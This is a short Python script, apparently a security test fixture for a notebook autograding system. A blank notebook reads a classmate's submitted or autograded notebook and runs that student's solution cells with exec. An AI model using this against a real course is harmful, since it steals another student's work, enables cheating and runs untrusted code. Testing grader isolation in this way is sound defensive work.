# attack: reading and running a peer's answers
# A blank notebook reads a classmate's submitted (or already autograded) notebook and runs its
# answer cells as its own.
import json
from pathlib import Path

for where in ("submitted", "autograded"):
    path = Path(__COURSE__) / where / "victim_full" / __CHAPTER__ / f"{__CHAPTER__}.ipynb"
    try:
        for cell in json.loads(path.read_text())["cells"]:
            if cell["metadata"].get("nbgrader", {}).get("solution"):
                exec("".join(cell["source"]), globals())
        print("copied", path)
    except Exception as err:
        print("could not copy", path, type(err).__name__, err)
